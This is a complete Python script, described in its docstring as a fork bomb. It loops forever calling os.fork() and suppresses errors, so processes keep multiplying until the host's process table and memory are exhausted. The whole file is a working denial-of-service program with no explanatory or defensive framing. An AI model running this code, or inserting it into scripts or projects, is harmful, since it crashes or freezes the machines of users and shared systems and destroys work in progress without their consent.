"""A fork bomb: every process forks forever, ignoring failures."""
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
